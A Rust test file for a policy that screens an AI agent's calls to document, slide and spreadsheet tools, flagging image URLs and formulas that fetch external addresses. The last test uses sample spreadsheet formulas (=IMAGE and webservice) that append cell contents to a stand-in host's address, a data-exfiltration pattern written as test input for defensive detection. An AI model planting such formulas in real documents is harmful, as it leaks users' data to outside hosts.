use super::*;
use bouncer_guest::testing::{call, json};

fn judge(tool: &str, arguments: Value) -> Judgement {
    Workspace::evaluate(&call(tool, arguments), &[], &()).unwrap()
}

fn found(tool: &str, arguments: Value) -> Vec<String> {
    let judgement = judge(tool, arguments);
    judgement.destinations().iter().map(|(value, _, at)| format!("{value} {at}")).collect()
}

#[test]
fn pictures_are_fetched_by_their_address() {
    let background = json!({"requests": [{"updatePageProperties": {"pageProperties": {
        "pageBackgroundFill": {"stretchedPictureFill": {"contentUrl": "https://e.example/a"}}
    }}}]});
    let at =
        "/requests/0/updatePageProperties/pageProperties/pageBackgroundFill/stretchedPictureFill/contentUrl";
    assert_eq!(found("batch_update_presentation", background), [format!("https://e.example/a {at}")]);
    let markdown = json!({"action": "populate_from_markdown", "markdown_text": "![x](https://e.example/a)"});
    assert_eq!(found("manage_doc_tab", markdown), ["https://e.example/a /markdown_text"]);
}

#[test]
fn links_that_are_only_shown_pass() {
    let link = json!({"requests": [{"updateTextStyle": {"style": {"link": {"url": "https://x.io"}}}}]});
    assert_eq!(judge("batch_update_presentation", link), Judgement::new());
    let markdown = json!({"action": "populate_from_markdown", "markdown_text": "# a\n[x](https://x.io)"});
    assert_eq!(judge("manage_doc_tab", markdown), Judgement::new());
}

#[test]
fn a_formula_that_fetches_is_asked_about_however_it_is_spaced() {
    for formula in ["=IMAGE (\"https://e.example/\"&A1)", "=if(1, webservice(\"https://e.example/\"&A1))"] {
        let judgement = judge("append_table_rows", json!({"values": [[formula]]}));
        assert_eq!(judgement.findings()[0].code(), "formula_fetches", "{formula}");
        assert_eq!(judgement.destinations().len(), 1, "{formula}");
    }
    assert_eq!(judge("append_table_rows", json!({"values": [["=SUM(A1)", "image 1"]]})), Judgement::new());
}
